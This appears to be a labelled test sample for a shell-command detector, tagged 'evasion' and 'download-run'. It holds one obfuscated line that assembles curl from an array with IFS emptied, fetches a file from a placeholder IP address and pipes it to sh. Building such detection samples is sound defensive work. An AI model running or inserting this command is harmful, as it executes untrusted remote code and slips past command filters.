# evasion: curl joined from an array with IFS emptied
# grade: hard; does: download-run
a=(c u r l); IFS=; c="${a[*]}"
$c -s http://203.0.113.5/x | sh
